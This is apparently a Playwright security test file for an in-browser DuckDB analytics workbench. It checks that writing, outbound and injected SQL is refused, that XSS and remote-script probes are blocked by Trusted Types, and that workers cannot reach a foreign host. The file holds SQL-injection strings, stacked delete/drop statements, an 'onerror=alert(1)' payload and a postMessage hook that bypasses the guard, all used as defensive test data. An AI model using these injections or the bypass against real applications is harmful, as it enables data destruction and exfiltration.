import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test as fresh } from '@playwright/test';
import { test } from '../pages/test';
import { WorkbenchPage } from '../pages/workbench';

const list = (name: string): string[] => JSON.parse(readFileSync(`${import.meta.dirname}/../../tests/guard/${name}.json`, 'utf8'));

/** A server of another origin, which answers everybody and notes what it hears. */
let foreign: Server;
let host: string;
const heard: string[] = [];

test.beforeAll(async () => {
  foreign = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/csv' }).end('a,b\n1,2\n');
  });
  foreign.on('connection', () => heard.push('connection'));
  await new Promise<void>((resolve) => foreign.listen(0, resolve));
  host = `localhost:${(foreign.address() as AddressInfo).port}`;
});

test.beforeEach(() => {
  heard.length = 0;
});

test.afterAll(() => {
  foreign.close();
});

/** Rows and a hash of every table, what is attached and how the engine is set. */
function state(flow: WorkbenchPage) {
  return flow.page.evaluate(async () => {
    // What is learned in the background is written until then.
    await window.metricflow.learning();
    const tables = await window.metricflow.query(
      "select distinct schema_name || '.' || table_name as name from duckdb_tables() where database_name like 'metricflow_%' and schema_name <> 'serving' order by 1",
    );
    const lines: string[] = [];
    for (const { name } of tables) {
      const [{ n, h }] = await window.metricflow.query(`select count(*) as n, cast(bit_xor(hash(t)) as varchar) as h from ${name} as t`);
      lines.push(`${name} ${n} ${h}`);
    }
    const databases = await window.metricflow.query('select database_name, readonly from duckdb_databases() order by 1');
    const settings = await window.metricflow.query('select name, value from duckdb_settings() order by 1');
    const others = await window.metricflow.query(
      'select (select count(*) from duckdb_sequences()) as sequences, (select count(*) from duckdb_types() where not internal) as types, ' +
        "(select count(*) from duckdb_functions() where not internal) as functions, (select count(*) from duckdb_secrets()) as secrets",
    );
    return JSON.stringify({ lines, databases, settings, others }, null, 1);
  });
}

/** Puts each statement to `query` and `arrow`; gives what each of them said. */
function ask(flow: WorkbenchPage, statements: string[]) {
  return flow.page.evaluate(async (statements) => {
    const answers: { sql: string; query: string; arrow: string }[] = [];
    const said = (asked: Promise<unknown>) => asked.then(() => 'passed', (error) => `refused: ${error.message.split('\n')[0]}`);
    for (const sql of statements) {
      answers.push({ sql, query: await said(window.metricflow.query(sql)), arrow: await said(window.metricflow.arrow(sql)) });
    }
    return answers;
  }, statements);
}

test('statements that write, reach out or end another are refused, and change nothing', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5');
  const before = await state(flow);
  const fingerprint = await flow.fingerprint();
  const statements = list('refused').map((sql) => sql.replaceAll('{host}', host));
  expect(statements.length).toBeGreaterThanOrEqual(200);
  const answers = await ask(flow, statements);
  expect(answers.filter(({ query, arrow }) => !query.startsWith('refused') || !arrow.startsWith('refused'))).toEqual([]);
  expect(await state(flow)).toBe(before);
  expect(await flow.fingerprint()).toBe(fingerprint);
  expect(heard).toEqual([]);
});

test('statements that only read pass, with the columns and values of the engine', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5');
  const answers = await ask(flow, list('reading'));
  expect(answers.length).toBeGreaterThanOrEqual(60);
  expect(answers.filter(({ query, arrow }) => query !== 'passed' || arrow !== 'passed')).toEqual([]);
  expect(await flow.query("select 'a''b' as x, 2 as y order by 1")).toEqual([{ x: "a'b", y: 2 }]);
  // A column of a name twice is still two columns.
  const twice = await page.evaluate(async () => new TextDecoder('latin1').decode(await window.metricflow.arrow('select 1 as aa, 2 as aa')));
  expect(twice).not.toContain('aa_1');
  // The engine points at the reader's own line.
  const error = await flow.query('select\n  nope\nfrom raw.users').catch(String);
  expect(error).toMatch(/LINE 2: +nope/);
});

/** Each as the text of a model, with the words that its failure is told by. */
const edits: [string, RegExp][] = [
  ['select 1 as a; delete from metricflow_1.raw.users where user_id < 100', /one select statement/],
  ['select 1 as x; drop table raw.users', /one select statement/],
  ['select 1 as a --\r; delete from raw.users', /one select statement/],
  ["{{ 'select 1 as a; ' ~ 'delete from raw.users' }}", /one select statement/],
  ["{% for table in ['users', 'events'] %}select 1 as a; drop table raw.{{ table }};{% endfor %}", /one select statement/],
  ["{{ config(materialized='view') }}select 1 as a; delete from raw.users", /one select statement/],
  ["{{ config(post_hook='delete from raw.users') }}select 1 as a", /post_hook/],
  ["{{ config(materialized='view') }}select * from read_csv('http://HOST/x.csv')", /disabled by configuration/],
  ['select * from enable_logging()', /enable_logging/],
];

test('an edited model is one select: what writes or reaches out fails alone, and the run goes on', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5&model=fct_signups&tab=sql');
  const raw = () => state(flow).then((text) => JSON.parse(text).lines.filter((line: string) => line.startsWith('raw.')));
  const before = await raw();
  // An earlier edit stands as a table, then as a view: what follows replaces neither by force.
  for (const kind of ['table', 'view']) {
    await flow.write(`{{ config(materialized='${kind}') }}select * from {{ ref('plan_details') }}`);
    await flow.runEdit();
    await expect(page.getByTestId('edit-failed')).toHaveCount(0);
  }
  const signups = await flow.count('marts.fct_signups');
  for (const [sql, words] of edits) {
    await flow.write(sql.replaceAll('HOST', host));
    await flow.runEdit();
    await expect(page.getByTestId('edit-failed'), sql).toContainText(words);
    await expect(page.getByTestId('edit-failed'), sql).not.toContainText('Existing object');
    expect((await flow.status()).phase, sql).toBe('ready');
    expect(await flow.count('marts.fct_signups'), sql).toBe(signups);
    const models = await page.evaluate(() => window.metricflow.models());
    const broken = models.filter((model: any) => !['built', 'kept'].includes(model.state)).map((model: any) => model.name);
    expect(broken.filter((name: string) => name !== 'fct_signups' && !models.find((model: any) => model.name === name).because), sql).toEqual([]);
  }
  expect(await raw()).toEqual(before);
  // A later run keeps no damage, and the model's own text stands again.
  await page.getByTestId('reset-edit').click();
  await flow.tested();
  expect(await raw()).toEqual(before);
  expect(heard).toEqual([]);
});

test('every statement that is refused is refused as a model, too, as a table and as a view that tests and panels would read', async ({ page }) => {
  test.setTimeout(600_000);
  const flow = new WorkbenchPage(page);
  await page.goto('?preset=tiny&seed=5');
  await flow.ready();
  const raw = () =>
    page.evaluate(async () => {
      const tables = await window.metricflow.query(
        "select distinct schema_name || '.' || table_name as name from duckdb_tables() where database_name like 'metricflow_%' and schema_name in ('raw', 'truth') order by 1",
      );
      const lines: string[] = [];
      for (const { name } of tables) {
        const [{ n, h }] = await window.metricflow.query(`select count(*) as n, cast(bit_xor(hash(t)) as varchar) as h from ${name} as t`);
        lines.push(`${name} ${n} ${h}`);
      }
      return lines;
    });
  const before = await raw();
  const fingerprint = await flow.fingerprint();
  const models: string[] = await page.evaluate(() => window.metricflow.models().map((model: any) => model.name));
  const statements = list('refused').map((sql) => sql.replaceAll('{host}', host));
  const passed: string[] = [];
  for (const materialized of ['table', 'view']) {
    for (let first = 0; first < statements.length; first += models.length) {
      // What a tab keeps of its edits is the way by which all models are edited at once. Said to read nothing, none waits for another.
      const batch = new Map(models.map((model, index) => [model, statements[first + index]]).filter(([, sql]) => sql !== undefined) as [string, string][]);
      const kept = { version: 2, applied: {} as Record<string, unknown>, drafts: {} };
      for (const [model, sql] of batch) {
        kept.applied[model] = { text: `{{ config(materialized='${materialized}') }}${sql}`, read: { refs: [], sources: [], materialized } };
      }
      await page.evaluate((kept) => sessionStorage.setItem('metricflow.edits', JSON.stringify(kept)), kept);
      await page.reload();
      await flow.ready();
      await page.evaluate(() => window.metricflow.tests());
      const states: any[] = await page.evaluate(() => window.metricflow.models());
      for (const [model, sql] of batch) {
        const { state, error } = states.find(({ name }) => name === model);
        if (state !== 'failed' || !error) passed.push(`${materialized}: ${sql}: ${state}`);
      }
      expect(await raw(), `${materialized} from ${first}`).toEqual(before);
    }
  }
  expect(passed).toEqual([]);
  expect(await flow.fingerprint()).toBe(fingerprint);
  expect(heard).toEqual([]);
});

test('a template that works too much is stopped with a sentence, and the page answers meanwhile', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5&model=fct_signups&tab=sql');
  await page.evaluate(() => (window.metricflow as any).learning());
  const { fuel, worker } = JSON.parse(readFileSync(`${import.meta.dirname}/../../tests/guard/templates.json`, 'utf8'));
  // One that only works: the worker is there from now on.
  await flow.write('{{ nothing }}');
  await page.getByTestId('run-edit').click();
  await flow.compiled();
  const before = await page.evaluate(() => (performance as any).memory.usedJSHeapSize);
  for (const sql of [...worker, ...fuel.slice(0, 4)]) {
    await flow.write(sql);
    // The longest time in which the page's own thread did nothing else.
    await page.evaluate(() => {
      const watch = { last: performance.now(), longest: 0, timer: 0 };
      watch.timer = window.setInterval(() => {
        const now = performance.now();
        watch.longest = Math.max(watch.longest, now - watch.last);
        watch.last = now;
      }, 5);
      (window as any).watch = watch;
    });
    const began = Date.now();
    await page.getByTestId('run-edit').click();
    await flow.compiled();
    await expect(page.getByTestId('edit-failed'), sql).toContainText(/too much work|recursion|too large|too many/);
    expect(Date.now() - began, sql).toBeLessThan(10_000);
    const longest = await page.evaluate(() => {
      const { watch } = window as any;
      clearInterval(watch.timer);
      return watch.longest;
    });
    expect(longest, sql).toBeLessThan(500);
    expect((await flow.status()).phase, sql).toBe('ready');
  }
  const after = await page.evaluate(() => (performance as any).memory.usedJSHeapSize);
  expect(after - before).toBeLessThan(100_000_000);
  // The next text has a worker of its own.
  await flow.write("select {{ 1 + 1 }} as two from {{ ref('plan_details') }}");
  await flow.runEdit();
  await expect(page.getByTestId('edit-failed')).toHaveCount(0);
  expect((await flow.query('select max(two) as two from marts.fct_signups'))[0].two).toBe(2);
});

test('what a text makes is known by the run alone: a template that works too much at another date fails that run’s model', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('models/?preset=tiny&seed=5&model=fct_signups&tab=sql');
  const { worker } = JSON.parse(readFileSync(`${import.meta.dirname}/../../tests/guard/templates.json`, 'utf8'));
  await flow.write(`{% if var('as_of') == '2025-11-30' %}${worker[0]}{% else %}select * from {{ ref('plan_details') }}{% endif %}`);
  await flow.runEdit();
  await expect(page.getByTestId('edit-failed')).toHaveCount(0);
  await flow.run('preset=tiny&seed=5&as_of=2025-11-30');
  await expect(page.getByTestId('edit-failed')).toContainText('too much work');
  expect((await flow.status()).phase).toBe('ready');
});

fresh('a raw table that changed is noticed by the next run, and the run after that makes all rows again', async ({ page }) => {
  // Behind the guard's back, as a fault in it would let through: straight to the engine's worker.
  await page.addInitScript(() => {
    const post = Worker.prototype.postMessage;
    Worker.prototype.postMessage = function (this: Worker, message: any, ...rest: any[]) {
      if (message?.type === 'RUN_QUERY') (window as any).engine = { worker: this, connection: message.data[0] };
      return (post as any).call(this, message, ...rest);
    };
  });
  const flow = new WorkbenchPage(page);
  await flow.openTested('?preset=tiny&seed=5');
  await page.evaluate(() => (window.metricflow as any).learning());
  const users = await flow.count('raw.users');
  const fingerprint = await flow.fingerprint();
  await page.evaluate(async () => {
    const [{ name }] = await window.metricflow.query("select max(database_name) as name from duckdb_tables() where schema_name = 'raw'");
    const { worker, connection } = (window as any).engine;
    const data = [connection, `delete from ${name}.raw.users where user_id < 100`];
    worker.postMessage({ messageId: 2_000_000_000, type: 'RUN_QUERY', data });
  });
  await expect.poll(() => flow.count('raw.users')).toBeLessThan(users);
  // Weekends change events alone; the users are kept.
  const told = await flow.page.evaluate(() => window.metricflow.run('preset=tiny&seed=5&weekend=0.3').then(() => 'ready', (error: Error) => error.message));
  expect(told).toMatch(/raw\.users has \d+ rows where 500 were loaded/);
  await flow.run('preset=tiny&seed=5');
  expect(await flow.count('raw.users')).toBe(users);
  expect(await flow.fingerprint()).toBe(fingerprint);
});

fresh('nothing but the program’s own views becomes HTML, and nothing but its own files scripts', async ({ page }) => {
  const refused: string[] = [];
  page.on('console', (message) => {
    if (/Trusted|Content Security Policy/i.test(message.text())) refused.push(message.text().slice(0, 200));
  });
  const flow = new WorkbenchPage(page);
  await flow.openTested('?preset=tiny&seed=5');
  // Every page is drawn, with what opens over it.
  for (const path of ['scenario/', 'retention/', 'revenue/', 'funnel/', 'adoption/', 'churn/', 'lineage/', 'quality/', 'cards/', 'truth/', 'models/?model=fct_signups&tab=sql']) {
    await page.evaluate((path) => {
      const link = document.createElement('a');
      link.href = new URL(path, document.baseURI).href + (path.includes('?') ? '&' : '?') + 'preset=tiny&seed=5';
      document.body.append(link);
      link.click();
      link.remove();
    }, path);
    await page.waitForTimeout(800);
    await flow.ready();
  }
  await page.keyboard.press('Control+k');
  await page.keyboard.press('Escape');
  expect(refused).toEqual([]);
  const outcome = await page.evaluate(async (host) => {
    const said = (attempt: () => unknown) => {
      try {
        attempt();
        return 'passed';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const inside = () => document.createElement('div');
    const address = (body: string) => URL.createObjectURL(new Blob([body]));
    return {
      html: said(() => (inside().innerHTML = '<img src=x onerror=alert(1)>')),
      text: said(() => (inside().innerHTML = '<p>first</p>')),
      outer: said(() => {
        const element = inside();
        inside().append(element);
        element.outerHTML = '<p></p>';
      }),
      adjacent: said(() => inside().insertAdjacentHTML('beforeend', '<p></p>')),
      parsed: said(() => new DOMParser().parseFromString('<p></p>', 'text/html')),
      fragment: said(() => document.createRange().createContextualFragment('<p></p>')),
      framed: said(() => (document.createElement('iframe').srcdoc = '<p></p>')),
      handler: said(() => inside().setAttribute('onclick', 'alert(1)')),
      script: said(() => (document.createElement('script').src = `http://${host}/x.js`)),
      own: said(() => (document.createElement('script').src = 'theme.js')),
      inline: said(() => (document.createElement('script').textContent = 'alert(1)')),
      blob: said(() => (document.createElement('script').src = address('alert(1)'))),
      worker: said(() => new Worker('theme.js')),
      policy: said(() => (window as any).trustedTypes.createPolicy('metricflow-views', {})),
      another: said(() => (window as any).trustedTypes.createPolicy('another', {})),
      empty: said(() => (inside().innerHTML = '')),
    };
  }, host);
  const { empty, ...others } = outcome;
  expect(empty).toBe('passed');
  for (const [way, name] of Object.entries(others)) expect(name, way).toBe('TypeError');
  for (const worker of page.workers()) {
    const within = await worker.evaluate((url) => {
      try {
        (self as any).importScripts(url);
        return 'passed';
      } catch (error) {
        return (error as Error).name;
      }
    }, `http://${host}/x.js`);
    expect(within).not.toBe('passed');
  }
  expect(heard).toEqual([]);
});

test('what the link says never becomes a statement of its own, in no panel', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('?preset=tiny&seed=5');
  const before = await state(flow);
  const own = ["'; delete from raw.users; --", "x' or 1=1 --", "pro'); drop table raw.users; --", `' union select content from read_text('http://${host}/x') --`];
  const values = [...own, ...list('refused').flatMap((sql) => [sql, `x'); ${sql} --`]).map((sql) => sql.replaceAll('{host}', host))];
  const keys = ['plan', 'country', 'channel', 'segment', 'model', 'test', 'panel', 'from', 'to', 'tab', 'find', 'range', 'compare'];
  for (let first = 0; first < values.length; first += keys.length) {
    const link = keys.map((key, index) => `${key}=${encodeURIComponent(values[(first + index) % values.length])}`);
    await flow.goTo(`preset=tiny&seed=5&${link.join('&')}`);
    await flow.ready();
    await page.waitForTimeout(150);
  }
  expect(await state(flow)).toBe(before);
  expect(heard).toEqual([]);
});

fresh('no worker reaches another host', async ({ page }) => {
  const flow = new WorkbenchPage(page);
  await flow.openTested('?preset=tiny&seed=5');
  await page.evaluate(() => (window.metricflow as any).learning());
  const workers = page.workers();
  // Generation, warehouse; the learning worker may have ended with its last model.
  expect(workers.length).toBeGreaterThanOrEqual(2);
  for (const worker of workers) {
    expect(worker.url()).toMatch(/^blob:/);
    const reached = await worker.evaluate(
      (url) => Promise.race([fetch(url).then(() => 'reached', () => 'refused'), new Promise((resolve) => setTimeout(resolve, 5_000, 'silent'))]),
      `http://${host}/leak`,
    );
    expect(reached).toBe('refused');
    // Sent synchronously, as the engine reads files of other hosts.
    const read = await worker.evaluate((url) => {
      try {
        const request = new XMLHttpRequest();
        request.open('GET', url, false);
        request.send();
        return `reached ${request.status}`;
      } catch {
        return 'refused';
      }
    }, `http://${host}/leak`);
    expect(read).toBe('refused');
  }
  expect(heard).toEqual([]);
});
